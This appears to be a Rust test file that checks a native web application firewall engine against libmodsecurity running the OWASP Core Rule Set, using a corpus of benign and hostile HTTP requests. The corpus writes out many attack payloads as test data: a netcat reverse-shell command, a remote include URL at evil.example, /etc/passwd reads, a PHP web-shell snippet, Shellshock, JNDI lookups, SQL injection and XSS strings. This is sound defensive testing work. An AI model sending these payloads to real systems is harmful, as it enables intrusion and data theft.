//! The native engine against libmodsecurity itself: the OWASP CRS at paranoia levels 1 and 2,
//! the agent's engine settings, and a few hundred requests (benign traffic, attacks from every
//! CRS category, protocol violations, and generated mixes of both). For every request both
//! engines must report the same rule ids and the same intervention.
//!
//! Needs libmodsecurity3 and modsecurity-crs (installed by .ci/run).

use fleetgate_agent_waf::native;

mod support;
use support::{crs_text, engines, header_refs, request, summary};

/// One test request.
#[derive(Debug, Clone)]
struct Case {
    method: String,
    uri: String,
    version: &'static str,
    headers: Vec<(String, String)>,
    body: Vec<u8>,
}

impl Case {
    fn get(uri: &str) -> Case {
        Case {
            method: "GET".into(),
            uri: uri.into(),
            version: "1.1",
            headers: vec![
                ("Host".into(), "shop.example.com".into()),
                (
                    "User-Agent".into(),
                    "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0".into(),
                ),
                (
                    "Accept".into(),
                    "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8".into(),
                ),
                ("Accept-Language".into(), "en-US,en;q=0.5".into()),
            ],
            body: Vec::new(),
        }
    }

    fn header(mut self, name: &str, value: &str) -> Case {
        self.headers.retain(|(n, _)| !n.eq_ignore_ascii_case(name));
        self.headers.push((name.into(), value.into()));
        self
    }

    fn without(mut self, name: &str) -> Case {
        self.headers.retain(|(n, _)| !n.eq_ignore_ascii_case(name));
        self
    }

    fn post(uri: &str, content_type: &str, body: &str) -> Case {
        let mut case = Case::get(uri).header("Content-Type", content_type);
        case.method = "POST".into();
        case.body = body.as_bytes().to_vec();
        case.header("Content-Length", &body.len().to_string())
    }

    fn method(mut self, method: &str) -> Case {
        self.method = method.into();
        self
    }
}

fn corpus() -> Vec<Case> {
    let mut cases = vec![
        Case::get("/"),
        Case::get("/index.html"),
        Case::get("/products?id=42&sort=price"),
        Case::get("/search?q=red+shoes&page=2"),
        Case::get("/a/b/c/d.png"),
        Case::get("/api/v1/users/17").header("Accept", "application/json"),
        Case::get("/").header("Cookie", "session=abc123; theme=dark; __utma=1.2.3"),
        Case::get("/").header("Host", "127.0.0.1"),
        Case::get("/").header("Host", "localhost:8080"),
        Case::get("/").without("User-Agent"),
        Case::get("/").without("Accept"),
        Case::get("/").without("Host"),
        Case::get("/").header("User-Agent", "sqlmap/1.7"),
        Case::get("/").header("User-Agent", "Nikto"),
        Case::get("/").header("User-Agent", "curl/8.4.0"),
        Case::get("/backup.bak"),
        Case::get("/.env"),
        Case::get("/web.config"),
        Case::get("/x?a=1&a=2&b="),
        Case::get("/x?%41=%42&c=%zz"),
        Case::get("/x?name=O%27Brien"),
        Case::get("/x?q=%u0041"),
        Case::get("/x?q=caf%C3%A9"),
        Case::get("/x?q=%C0%AF"),
        Case::get("/x?q=%00"),
        Case::get(&format!("/x?q={}", "a".repeat(500))),
        Case::get("/%2e%2e/%2e%2e/etc/passwd"),
        Case::get("/x?file=../../../../etc/passwd"),
        Case::get("/x?file=..%2f..%2fwindows%2fwin.ini"),
        Case::get("/x?url=http://evil.example/shell.txt?"),
        Case::get("/x?url=http://1.2.3.4/x"),
        Case::get("/x?cmd=;cat%20/etc/passwd"),
        Case::get("/x?cmd=%7C%20nc%20-e%20/bin/sh%201.2.3.4%204444"),
        Case::get("/x?c=$(whoami)"),
        Case::get("/x?p=<?php%20system($_GET['c']);%20?>"),
        Case::get("/x?p=php://input"),
        Case::get("/x?q=<script>alert(1)</script>"),
        Case::get("/x?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"),
        Case::get("/x?q=javascript:alert(document.cookie)"),
        Case::get("/x?q=<svg/onload=alert(1)>"),
        Case::get("/x?id=1%20OR%201=1"),
        Case::get("/x?id=1'%20OR%20'1'='1"),
        Case::get("/x?id=1;%20DROP%20TABLE%20users--"),
        Case::get("/x?id=1%20UNION%20SELECT%20username,password%20FROM%20users"),
        Case::get("/x?id=sleep(5)"),
        Case::get("/x?id=1%20AND%20benchmark(1000000,md5(1))"),
        Case::get("/x?q=select%20the%20best%20option%20from%20the%20menu"),
        Case::get("/x?q=it's%20a%20nice%20day"),
        Case::get("/x?q=${jndi:ldap://x.example/a}"),
        Case::get("/x?q=java.lang.Runtime"),
        Case::get("/x?q=__proto__[admin]=1"),
        Case::get("/x?PHPSESSID=abc"),
        Case::get("/x?jsessionid=abc").header("Referer", "http://other.example/"),
        Case::get("/x").header("Content-Type", "text/plain; charset=utf-7"),
        Case::get("/x").header("Range", "bytes=0-1,2-3,4-5,6-7,8-9,10-11"),
        Case::get("/x").header("Accept-Encoding", "gzip, deflate, br"),
        Case::get("/x").header("X-Forwarded-For", "1.2.3.4, 10.0.0.1"),
        Case::get("/x").header("Proxy", "http://evil"),
        Case::get("/x").header("Cookie", "id=1' or '1'='1"),
        Case::get("/x").header("Cookie", "a=<script>x</script>"),
        Case::get("/x").header("Referer", "http://x/?q=<script>"),
        Case::get("/x").header("User-Agent", "() { :; }; /bin/bash -c 'id'"),
        Case::get("/x")
            .header("Transfer-Encoding", "chunked")
            .method("GET"),
        Case::get("/x").method("TRACE"),
        Case::get("/x").method("PROPFIND"),
        Case::get("/x").method("DELETE"),
        Case::get("/x").method("PATCH"),
        Case::get("/x").method("OPTIONS"),
        Case::get("/x").method("HEAD"),
        // libmodsecurity's @pm matcher misses this etc/passwd (found by differential fuzzing).
        Case::get("/?a=etc/etc/passwd"),
        // A run of quotes exhausts 932150's JIT stack; libmodsecurity then uses the interpreter.
        Case::get(&format!("/?x={}ls%20-la", "'".repeat(1400))),
        Case::post(
            "/login",
            "application/x-www-form-urlencoded",
            "user=alice&pass=s3cret",
        ),
        Case::post(
            "/login",
            "application/x-www-form-urlencoded",
            "user=admin'--&pass=x",
        ),
        Case::post(
            "/comment",
            "application/x-www-form-urlencoded",
            "text=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        ),
        Case::post(
            "/api",
            "application/json",
            r#"{"name":"alice","age":30,"tags":["a","b"]}"#,
        ),
        Case::post(
            "/api",
            "application/json",
            r#"{"q":"1 union select password from users"}"#,
        ),
        Case::post(
            "/api",
            "application/json",
            r#"{"a":{"b":{"c":"<script>alert(1)</script>"}}}"#,
        ),
        Case::post("/api", "application/json", r#"{"broken": "#),
        Case::post("/api", "application/json", ""),
        Case::post(
            "/api",
            "application/json; charset=utf-8",
            r#"[1,2,{"x":null,"y":true}]"#,
        ),
        Case::post("/api", "text/plain", "just some text ; ls -la"),
        Case::post("/api", "application/octet-stream", "\u{1}\u{2}binary"),
        Case::post("/api", "application/x-www-form-urlencoded", "a=1&b=2&c=3").method("PUT"),
        Case::post(
            "/x",
            "application/x-www-form-urlencoded",
            &"k=v&".repeat(300),
        ),
    ];
    let mut http10 = Case::get("/old");
    http10.version = "1.0";
    cases.push(http10);
    let mut h2 = Case::get("/h2");
    h2.version = "2.0";
    cases.push(h2);
    cases.extend(generated(400));
    cases
}

/// Requests mixed from benign and hostile fragments by a fixed-seed generator.
fn generated(n: usize) -> Vec<Case> {
    const VALUES: &[&str] = &[
        "1",
        "hello",
        "red+shoes",
        "O%27Brien",
        "%3Cb%3E",
        "1%20or%201%3D1",
        "..%2F..%2Fetc",
        "%25",
        "a%00b",
        "cat%20/etc/passwd",
        "%E2%82%AC",
        "select",
        "from",
        "union%20all",
        "<a>",
        "alert(1)",
        "onload%3D",
        "%2Fbin%2Fsh",
        "x@y.z",
        "2024-01-01T00:00:00Z",
        "eval(",
        "base64_decode(",
        "%u003c",
        "&#x3c;script",
        "\\x3cscript",
        "/*comment*/",
        "waitfor%20delay",
        "char(65)",
        "0x414141",
        "true",
        "null",
        "",
    ];
    const NAMES: &[&str] = &[
        "id", "q", "name", "redirect", "file", "cmd", "x", "__utmz", "data",
    ];
    const HEADERS: &[(&str, &[&str])] = &[
        (
            "User-Agent",
            &[
                "Mozilla/5.0",
                "python-requests/2.31",
                "masscan",
                "Go-http-client/1.1",
            ],
        ),
        ("Accept", &["*/*", "text/html", "application/json"]),
        (
            "Referer",
            &[
                "https://shop.example.com/",
                "javascript:alert(1)",
                "http://x/../../",
            ],
        ),
        (
            "Cookie",
            &[
                "a=b",
                "sid=1 union select 1",
                "x=<script>",
                "c=%27%20or%201=1",
            ],
        ),
        ("X-Api-Key", &["k-123", "' or ''='", "${jndi:ldap://a}"]),
        (
            "Content-Type",
            &[
                "text/plain",
                "application/x-www-form-urlencoded",
                "application/json",
            ],
        ),
    ];
    let mut seed: u64 = 0x9e37_79b9_7f4a_7c15;
    let mut next = move |m: usize| {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        (seed % m as u64) as usize
    };
    let mut out = Vec::new();
    for _ in 0..n {
        let mut uri = String::from("/p");
        for _ in 0..next(3) {
            uri.push('/');
            uri.push_str(["a", "b.php", "c.bak", "..", "x%2Fy", "img.png"][next(6)]);
        }
        let args = next(4);
        for i in 0..args {
            uri.push(if i == 0 { '?' } else { '&' });
            uri.push_str(NAMES[next(NAMES.len())]);
            uri.push('=');
            for _ in 0..1 + next(3) {
                uri.push_str(VALUES[next(VALUES.len())]);
            }
        }
        let mut case = Case::get(&uri);
        for _ in 0..next(3) {
            let (name, values) = HEADERS[next(HEADERS.len())];
            case = case.header(name, values[next(values.len())]);
        }
        if next(4) == 0 {
            let mut body = String::new();
            for i in 0..1 + next(3) {
                if i > 0 {
                    body.push('&');
                }
                body.push_str(NAMES[next(NAMES.len())]);
                body.push('=');
                body.push_str(VALUES[next(VALUES.len())]);
            }
            case = Case::post(&uri, "application/x-www-form-urlencoded", &body);
        }
        out.push(case);
    }
    out
}

fn compare(paranoia: u8) {
    let (reference, native) = engines(&crs_text(paranoia));
    let mut differences = Vec::new();
    let mut handed_back: Vec<(usize, native::Unsupported)> = Vec::new();
    let mut blocked = 0;
    let cases = corpus();
    for (n, case) in cases.iter().enumerate() {
        let headers = header_refs(&case.headers);
        let request = request(&case.method, &case.uri, case.version, &headers, &case.body);
        let expected = reference
            .evaluate(&request)
            .expect("libmodsecurity evaluates");
        let got = match native.evaluate(&request) {
            Ok(outcome) => outcome,
            Err(why) => {
                handed_back.push((n, why));
                continue;
            }
        };
        if expected.intervention.is_some() {
            blocked += 1;
        }
        if summary(&expected) != summary(&got) {
            differences.push(format!(
                "#{n} {} {} {:?}\n  libmodsecurity: {:?}\n  native:         {:?}",
                case.method,
                case.uri,
                case.headers,
                summary(&expected),
                summary(&got)
            ));
        }
    }
    assert!(
        differences.is_empty(),
        "{} of {} requests differ at paranoia level {paranoia}:\n{}",
        differences.len(),
        cases.len(),
        differences.join("\n")
    );
    assert!(
        handed_back.is_empty(),
        "no request of this corpus needs libmodsecurity, yet {} did; the first: {:?}",
        handed_back.len(),
        &handed_back[..handed_back.len().min(5)]
    );
    assert!(blocked > 50, "the corpus blocks only {blocked} requests");
}

#[test]
fn the_crs_at_paranoia_level_1_gives_libmodsecurity_s_verdicts() {
    compare(1);
}

#[test]
fn the_crs_at_paranoia_level_2_gives_libmodsecurity_s_verdicts() {
    compare(2);
}
